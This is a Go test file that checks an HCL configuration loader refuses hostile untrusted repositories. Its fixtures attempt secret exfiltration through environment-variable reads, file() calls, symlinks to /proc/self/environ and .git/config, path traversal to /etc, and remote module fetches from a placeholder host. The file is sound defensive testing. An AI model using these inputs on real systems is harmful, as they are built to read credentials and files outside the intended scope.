package hclschema_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/rogpeppe/go-internal/txtar"

	"github.com/stagecraft-dev/stagecraft/internal/testtool"
	"github.com/stagecraft-dev/stagecraft/schema/diag"
	"github.com/stagecraft-dev/stagecraft/schema/hclschema"
)

// canary stands for what an architecture must not get.
const canary = "canary-8c1f03"

// hostile are architectures that try to reach out. Each is an archive of the files of a repository, with the architecture in crm; a line
// "link NAME -> TARGET" of the comment makes a link. OUTSIDE is a directory beside the repository that has canaries, and HOST a server that
// nobody may call. What comes after "wants" is a part of a diagnostic that must be among the result.
var hostile = map[string]string{
	"an environment variable in a text": `wants SC0117 error
-- crm/a.hcl --
role "r" { title = env.CANARY }`,
	"an environment variable in a template": `wants SC0117 error
-- crm/a.hcl --
role "r" { title = "${env.CANARY}" }`,
	"an environment variable in a local": `wants SC0117 error
-- crm/a.hcl --
locals { x = env.CANARY }
role "r" { title = local.x }`,
	"an environment variable in a validation": `wants SC0117 error
-- crm/a.hcl --
variable "v" {
  default = "x"
  validation {
    condition     = false
    error_message = "${env.CANARY}"
  }
}
role "r" { title = var.v }`,
	"a variable that the environment has": `wants SC0115 warning
-- crm/a.hcl --
variable "canary" { type = string }
role "r" { title = var.canary }`,
	"a variable with a default that the environment has": `
-- crm/a.hcl --
variable "canary" { default = "mine" }
role "r" { title = var.canary }`,
	"a function that reads a file": `wants SC0113 error
-- crm/a.hcl --
role "r" { title = file("OUTSIDE/secret.hcl") }`,
	"a function that fills a template": `wants SC0113 error
-- crm/a.hcl --
role "r" { title = templatefile("OUTSIDE/secret.hcl", {}) }`,
	"a link to a file": `link crm/b.hcl -> OUTSIDE/secret.hcl
wants SC0002 error
-- crm/a.hcl --
role "r" { title = "R" }`,
	"a relative link to a file": `link crm/b.hcl -> ../../outside/secret.hcl
wants SC0002 error
-- crm/a.hcl --
role "r" { title = "R" }`,
	"a link to the configuration of git": `link crm/b.hcl -> ../.git/config
wants SC0002 error
-- crm/a.hcl --
role "r" { title = "R" }`,
	"a link to the environment of the process": `link crm/b.hcl -> /proc/self/environ
wants SC0002 error
-- crm/a.hcl --
role "r" { title = "R" }`,
	"a link to values": `link crm/all.auto.vars.hcl -> OUTSIDE/values.auto.vars.hcl
wants SC0002 error
-- crm/a.hcl --
variable "canary" { default = "" }
role "r" { title = var.canary }`,
	"a link to the values of the environment": `link crm/production.vars.hcl -> OUTSIDE/values.auto.vars.hcl
wants SC0002 error
-- crm/a.hcl --
variable "canary" { default = "" }
role "r" { title = var.canary }`,
	"a link to a directory": `link crm/b -> OUTSIDE
-- crm/a.hcl --
role "r" { title = "R" }`,
	"a module behind a link": `link crm/b -> OUTSIDE
wants SC0002 error
-- crm/a.hcl --
module "m" { source = "./b" }`,
	"a module outside of the repository": `wants SC0002 error
-- crm/a.hcl --
module "m" { source = "../../outside" }`,
	"a module far outside of the repository": `wants SC0002 error
-- crm/a.hcl --
module "m" { source = "../../../../../../../../../../../../etc" }`,
	"a module at an absolute path": `wants SC0116 error
-- crm/a.hcl --
module "m" { source = "OUTSIDE" }`,
	"a module in git's own directory": `wants SC0002 error
-- crm/a.hcl --
module "m" { source = "../.git" }`,
	"a module from https": `wants SC0116 warning
-- crm/a.hcl --
module "m" { source = "git::https://HOST/m.git" }`,
	"a module from http": `wants SC0116 warning
-- crm/a.hcl --
module "m" { source = "http://HOST/m.git//sub?ref=v1" }`,
	"a module from ssh": `wants SC0116 warning
-- crm/a.hcl --
module "m" { source = "ssh://git@HOST/m.git" }`,
	"a module from a file URL": `wants SC0116 warning
-- crm/a.hcl --
module "m" { source = "git::file://OUTSIDE" }`,
	"a module whose URL has an environment variable": `wants SC0116 error
-- crm/a.hcl --
module "m" { source = "git::https://HOST/${env.CANARY}.git" }`,
	"a module that takes in another from git": `wants SC0116 warning
-- crm/a.hcl --
module "m" { source = "../shared" }
-- shared/a.hcl --
module "n" { source = "git::https://HOST/n.git" }`,
	"a module that reads an environment variable": `wants SC0117 error
-- crm/a.hcl --
module "m" { source = "../shared" }
-- shared/a.hcl --
role "r" { title = env.CANARY }`,
	"a lock file that pins a module elsewhere": `wants SC0116 warning
-- crm/a.hcl --
module "m" { source = "git::https://HOST/m.git" }
-- crm/stagecraft.lock.hcl --
module "https://HOST/m.git" {
  ref    = ""
  commit = "0123456789abcdef0123456789abcdef01234567"
  hash   = "sha256:00"
}`,
	"a link to a lock file": `link crm/stagecraft.lock.hcl -> OUTSIDE/secret.hcl
wants SC0116 warning
-- crm/a.hcl --
module "m" { source = "git::https://HOST/m.git" }`,
	"fetched modules behind a link": `link crm/.stagecraft -> OUTSIDE
wants SC0116 warning
-- crm/a.hcl --
module "m" { source = "git::https://HOST/m.git" }
-- crm/stagecraft.lock.hcl --
module "https://HOST/m.git" {
  ref    = ""
  commit = "0123456789abcdef0123456789abcdef01234567"
  hash   = "sha256:00"
}`,
	"settings that name secrets and hosts": `
-- crm/a.hcl --
role "r" { title = "R" }
environment "production" {
  crm "hubspot" {
    token    = env.CANARY
    base_url = "http://HOST"
  }
}
environment "other" {
  crm "salesforce" {
    instance = "https://HOST"
    auth     = { method = "jwt", client_id = env.CANARY, username = "u", key_file = "OUTSIDE/secret.hcl", login = "https://HOST" }
  }
}
environment "third" {
  crm "sandbox" { path = "OUTSIDE/made.db" }
}`,
}

// attack writes a hostile repository; dir is its architecture.
func attack(t *testing.T, text, host string) (dir string, wants []string) {
	t.Helper()
	top := t.TempDir()
	outside := filepath.Join(top, "outside")
	write := func(name, text string) {
		path := filepath.Join(top, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("outside/secret.hcl", "role \""+canary+"\" { title = "+canary)
	write("outside/values.auto.vars.hcl", "canary = \""+canary+"\"")
	write("outside/role.hcl", "role \"outside\" { title = \""+canary+"\" }")
	write("repo/.git/config", "[http]\n\textraheader = AUTHORIZATION: basic "+canary+"\n")
	write("repo/.git/a.hcl", "role \"git\" { title = \""+canary+"\" }")
	write("repo/crm/architecture.hcl", "architecture \"acme\" {\n  title   = \"Acme\"\n  version = \"0.1.0\"\n}\n")
	text = strings.NewReplacer("OUTSIDE", filepath.ToSlash(outside), "HOST", host).Replace(text)
	ar := txtar.Parse([]byte(text))
	for _, f := range ar.Files {
		write("repo/"+f.Name, string(f.Data))
	}
	for line := range strings.SplitSeq(string(ar.Comment), "\n") {
		if link, ok := strings.CutPrefix(line, "link "); ok {
			name, target, _ := strings.Cut(link, " -> ")
			if err := os.Symlink(target, filepath.Join(top, "repo", filepath.FromSlash(name))); err != nil {
				t.Skip("links cannot be made here: ", err)
			}
		} else if want, ok := strings.CutPrefix(line, "wants "); ok {
			wants = append(wants, want)
		}
	}
	return filepath.Join(top, "repo", "crm"), wants
}

// TestUntrusted reads hostile architectures as untrusted: none gets anything.
func TestUntrusted(t *testing.T) {
	host := testtool.NobodyCalls(t)
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			dir, wants := attack(t, text, host)
			opts := hclschema.Options{Untrusted: true, Env: "production", Getenv: func(name string) string {
				t.Errorf("the environment variable %s was read", name)
				return canary
			}}
			res := hclschema.Load(dir, opts)
			for _, d := range res.Diags {
				if text := d.Summary + d.Detail; strings.Contains(text, canary) {
					t.Errorf("a diagnostic tells the secret: %s", text)
				}
			}
			for file, src := range res.Sources {
				if strings.Contains(string(src), canary) {
					t.Errorf("%s was read: %s", file, src)
				}
			}
			for _, b := range res.Architecture.Blocks() {
				if strings.Contains(fmt.Sprintf("%+v", b), canary) {
					t.Errorf("the architecture has the secret: %+v", b)
				}
			}
			var got []string
			for _, d := range res.Diags {
				got = append(got, fmt.Sprintf("%s %s", d.Code, map[diag.Severity]string{diag.Error: "error", diag.Warning: "warning"}[d.Severity]))
			}
			for _, want := range wants {
				if !slices.Contains(got, want) {
					t.Errorf("no %s among %q", want, res.Diags)
				}
			}
			if len(wants) == 0 && len(got) > 0 {
				t.Errorf("nothing is wrong here, but %q", res.Diags)
			}
			if incomplete := slices.ContainsFunc(wants, func(w string) bool { return strings.HasSuffix(w, "warning") }); incomplete != res.Incomplete {
				t.Errorf("incomplete is %v: %q", res.Incomplete, res.Diags)
			}
			if _, err := os.Stat(filepath.Join(dir, "..", "..", "outside", "made.db")); err == nil {
				t.Error("something was written")
			}
		})
	}
}

// TestHostileIsHostile shows that the attacks would succeed on an architecture that is trusted, as far as reading it can tell.
func TestHostileIsHostile(t *testing.T) {
	host := testtool.NobodyCalls(t)
	for _, name := range []string{"a variable that the environment has", "a link to a file", "a link to the configuration of git", "a link to values",
		"a module behind a link", "a module outside of the repository", "a module in git's own directory"} {
		t.Run(name, func(t *testing.T) {
			dir, _ := attack(t, hostile[name], host)
			res := hclschema.Load(dir, hclschema.Options{Env: "production", Getenv: func(string) string { return canary }})
			for _, src := range res.Sources {
				if strings.Contains(string(src), canary) {
					return
				}
			}
			for _, b := range res.Architecture.Blocks() {
				if strings.Contains(fmt.Sprintf("%+v", b), canary) {
					return
				}
			}
			t.Error("the attack is none")
		})
	}
}

// An untrusted architecture that is not hostile reads like any other: files, values, modules of its repository, and modules from git that
// were fetched before.
func TestUntrustedOrdinary(t *testing.T) {
	dir, _ := attack(t, `
-- crm/a.hcl --
variable "team" { type = string }
role "r" { title = var.team }
module "m" { source = "../shared" }
-- crm/all.auto.vars.hcl --
team = "Sales"
-- shared/b.hcl --
role "s" { title = "S" }`, "")
	values := filepath.Join(filepath.Dir(dir), "more.hcl")
	if err := os.WriteFile(values, []byte(`team = "Marketing"`), 0o644); err != nil {
		t.Fatal(err)
	}
	want := hclschema.Load(dir, hclschema.Options{VarFiles: []string{values}})
	got := hclschema.Load(dir, hclschema.Options{VarFiles: []string{values}, Untrusted: true})
	if len(got.Diags) > 0 || got.Incomplete || got.Architecture.Digest() != want.Architecture.Digest() {
		t.Errorf("it reads differently: %q", got.Diags)
	}
	link := filepath.Join(filepath.Dir(dir), "link.hcl")
	if err := os.Symlink(values, link); err != nil {
		t.Skip("links cannot be made here: ", err)
	}
	if res := hclschema.Load(dir, hclschema.Options{VarFiles: []string{link}, Untrusted: true}); !res.Incomplete {
		t.Errorf("values were read through a link: %q", res.Diags)
	}
	if res := hclschema.Load(filepath.Join(dir, "nowhere"), hclschema.Options{Untrusted: true}); !res.Diags.HasErrors() {
		t.Error("a directory that is not there was read")
	}
}
